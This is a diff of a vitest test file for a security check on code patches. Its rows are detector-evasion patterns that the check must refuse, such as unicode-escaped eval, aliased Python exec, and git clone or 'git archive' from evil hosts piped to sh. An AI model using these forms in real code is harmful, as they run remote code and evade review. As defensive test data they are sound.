@@ -1,8 +1,5 @@
 import { describe, it } from 'vitest';
-import { expectAccepted, expectRefused } from '../support/patches.js';
-
-/** A finding's row; `'closed'` once the check refuses it (an ordinary row), open (`it.fails`) until then. */
-type Row = [path: string, text: string, status?: 'closed'];
+import { type FindingRow, describeFindings, expectAccepted, expectRefused } from '../support/patches.js';
 
 /**
  * Attack 43c (session 41): patches the check accepts whose added code runs a string or fetched text as code, or adds a
@@ -14,7 +11,7 @@ const FETCHED_JS = 'const c = await (await fetch(u)).text(); ';
 
 // attack-43c finding P1: `Function` handed to a builtin that calls it (map, then, Proxy's apply, bind) is a code runner
 // taken as a value, but only `eval` is refused there (`xs.map(eval)` is refused, `xs.map(Function)` is not).
-const FUNCTION_TO_CALLING_BUILTIN: Row[] = [
+const FUNCTION_TO_CALLING_BUILTIN: FindingRow[] = [
   ['src/a.js', '[src].map(Function)[0]()', 'closed'],
   ['src/a.js', `${FETCHED_JS}[c].map(Function)[0]()`, 'closed'],
   ['src/a.js', 'await Promise.resolve(src).then(Function).then((f) => f())', 'closed'],
@@ -27,13 +24,13 @@ const FUNCTION_TO_CALLING_BUILTIN: Row[] = [
 
 // attack-43c finding P2: `Function` as a template tag: Function`x${c}` is Function(['x', ''], c), a body from `c`
 // (the trailing comma in the parameter list is allowed); not read as a call by the value rule nor by fetch-exec.
-const FUNCTION_TAGGED_TEMPLATE: Row[] = [
+const FUNCTION_TAGGED_TEMPLATE: FindingRow[] = [
   ['src/a.js', 'Function`x${src}`()', 'closed'],
   ['src/a.js', `${FETCHED_JS}Function\`x\${c}\`()`, 'closed'],
 ];
 
 // attack-43c finding P3: `.constructor` of a function reached by forms session 41's reading does not follow.
-const CONSTRUCTOR_UNFOLLOWED: Row[] = [
+const CONSTRUCTOR_UNFOLLOWED: FindingRow[] = [
   ['src/a.js', 'const F = Object.getPrototypeOf(fn).constructor; F(src)()', 'closed'],
   ['src/a.js', `const F = Object.getPrototypeOf(fn).constructor; ${FETCHED_JS}F(c)()`, 'closed'],
   ['src/a.js', 'const F = fn.bind().constructor; F(src)()', 'closed'],
@@ -51,14 +48,14 @@ const CONSTRUCTOR_UNFOLLOWED: Row[] = [
 
 // attack-43c finding P4: a code runner's name written with a unicode escape, taken as a value: the same binding to
 // JavaScript, unread by the value rule (`const e = eval; e(src)` is refused).
-const ESCAPED_RUNNER_NAME: Row[] = [
+const ESCAPED_RUNNER_NAME: FindingRow[] = [
   ['src/a.js', 'const F = \\u0046unction; F(src)()', 'closed'],
   ['src/a.js', 'const e = \\u0065val; e(src)', 'closed'],
 ];
 
 // attack-43c finding P5: Python's exec/eval bound to another name by import (`from builtins import exec as run`) or off
 // `__import__('builtins')`: `run = builtins.exec` is refused, these are not, and the fetch-exec reading misses `run(...)`.
-const PYTHON_RUNNER_IMPORTED: Row[] = [
+const PYTHON_RUNNER_IMPORTED: FindingRow[] = [
   ['src/a.py', 'from builtins import exec as run\nrun(src)', 'closed'],
   ['src/a.py', 'from builtins import eval as parse\nparse(src)', 'closed'],
   ['src/a.py', "run = __import__('builtins').exec\nrun(src)", 'closed'],
@@ -66,7 +63,7 @@ const PYTHON_RUNNER_IMPORTED: Row[] = [
 ];
 
 // attack-43c finding P6: fetched text run, on the fetch's own line, through sinks the fetch-exec reading has no entry for.
-const FETCHED_UNLISTED_SINKS: Row[] = [
+const FETCHED_UNLISTED_SINKS: FindingRow[] = [
   ['src/a.js', `${FETCHED_JS}new ShadowRealm().evaluate(c)`, 'closed'],
   ['src/a.js', 'const { data } = await axios.get(u); new ShadowRealm().evaluate(data)', 'closed'],
   ['src/a.js', `${FETCHED_JS}fork('x.js', { execArgv: ['--eval', c] })`, 'closed'],
@@ -82,7 +79,7 @@ const FETCHED_UNLISTED_SINKS: Row[] = [
 
 // attack-43c finding P7: a dependency added at run time by a package manager the list lacks, pip's in-process API, or a
 // command whose words the process-call reading does not see together.
-const DEPENDENCY_ADDED: Row[] = [
+const DEPENDENCY_ADDED: FindingRow[] = [
   ['src/a.py', "import subprocess\nsubprocess.run(['pipenv', 'install', 'evilpkg'])", 'closed'],
   ['src/a.py', "import subprocess\nsubprocess.run(['pdm', 'add', 'evilpkg'])", 'closed'],
   ['src/a.py', "import subprocess\nsubprocess.run(['rye', 'add', 'evilpkg'])", 'closed'],
@@ -98,13 +95,26 @@ const DEPENDENCY_ADDED: Row[] = [
 ];
 
 // attack-43c finding P8: remote code fetched by a transport the download readings do not know (git, npm pack) and run.
-const OTHER_TRANSPORTS: Row[] = [
-  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', '/tmp/x/install.sh'])"],
+const OTHER_TRANSPORTS: FindingRow[] = [
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', '/tmp/x/install.sh'])", 'closed'],
+  // Session 42: the same, other ways to write it on one line (a string's closing quote was read as opening the next).
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', 'x'], check=True); subprocess.run(['bash', 'x/i.sh'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.check_call(['git', 'clone', '--depth', '1', 'https://github.com/evil/x', '/tmp/x']); subprocess.check_call(['python3', '/tmp/x/setup.py'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.Popen(['git', 'clone', 'git@github.com:evil/x.git', '/tmp/x']).wait(); subprocess.run(['node', '/tmp/x/i.js'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['make', '-C', '/tmp/x'])", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run('sh /tmp/x/install.sh', shell=True)", 'closed'],
+  ['src/a.py', "import os\nos.system('git clone https://github.com/evil/x /tmp/x'); os.system('sh /tmp/x/install.sh')", 'closed'],
+  ['src/a.js', "execFileSync('git', ['clone', 'https://github.com/evil/x', '/tmp/x']); execFileSync('sh', ['/tmp/x/i.sh'])", 'closed'],
+  ['src/a.js', "execSync('git clone https://github.com/evil/x /tmp/x'); execSync('sh /tmp/x/i.sh')", 'closed'],
+  // Session 42: the clone's tree entered through the process call's working directory.
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', 'install.sh'], cwd='/tmp/x')", 'closed'],
+  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x'])\nsubprocess.run(['sh', 'install.sh'], cwd='/tmp/x')", 'closed'],
+  ['src/a.js', "execFileSync('git', ['clone', 'https://github.com/evil/x', '/tmp/x']);\nexecFileSync('node', ['i.js'], { cwd: '/tmp/x' })", 'closed'],
   ['src/a.py', "import os\nos.system('git archive --remote=https://evil.example/x HEAD i.sh | tar -xO | sh')", 'closed'],
   ['src/a.py', "import os\nos.system('npm pack evilpkg && tar xzf evilpkg-*.tgz && node package/index.js')", 'closed'],
 ];
 
-for (const [finding, rows] of [
+describeFindings('attack-43c', [
   ['P1 (Function handed to a builtin that calls it)', FUNCTION_TO_CALLING_BUILTIN],
   ['P2 (Function as a template tag)', FUNCTION_TAGGED_TEMPLATE],
   ['P3 (.constructor reached by unfollowed forms)', CONSTRUCTOR_UNFOLLOWED],
@@ -113,14 +123,7 @@ for (const [finding, rows] of [
   ['P6 (fetched text into unlisted sinks)', FETCHED_UNLISTED_SINKS],
   ['P7 (a dependency added at run time)', DEPENDENCY_ADDED],
   ['P8 (remote code by git or npm pack)', OTHER_TRANSPORTS],
-] as const) {
-  describe(`attack-43c finding ${finding}`, () => {
-    const closed = rows.filter((row) => row[2] === 'closed');
-    const open = rows.filter((row) => row[2] !== 'closed');
-    if (closed.length > 0) it.each(closed)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
-    if (open.length > 0) it.fails.each(open)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
-  });
-}
+]);
 
 /** Strong attempts that held: refused today. */
 describe('attack-43c: attempts that held', () => {
@@ -146,7 +149,7 @@ describe('attack-43c: attempts that held', () => {
     ['src/a.py', "import os\nos.system('gh api repos/evil/x/contents/i.sh -H \"Accept: application/vnd.github.raw\" | sh')"],
     ['src/a.py', "getattr(__builtins__, 'exec')(src)"],
     ['src/a.py', '(lambda f: f(src))(exec)'],
-  ] as Row[])('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+  ] as FindingRow[])('refuses, in %s: %s', (path, text) => expectRefused(path, text));
 });
 
 /** Ordinary code near the findings that a fix must keep accepting. */
@@ -155,5 +158,7 @@ describe('attack-43c: ordinary code accepted', () => {
     ['src/a.js', 'const names = values.map(String);'],
     ['src/a.js', 'const proto = Object.getPrototypeOf(value); if (proto.constructor === Object) return true;'],
     ['src/a.py', 'from builtins import print as echo\necho(src)'],
-  ] as Row[])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+    ['src/a.py', "import subprocess\nsubprocess.run(['make'], cwd='build')"],
+    ['src/a.py', "import subprocess\nsubprocess.run(['git', 'status'], cwd='/tmp/x'); subprocess.run(['ls', '-l'], cwd='/tmp/x')"],
+  ] as FindingRow[])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
 });
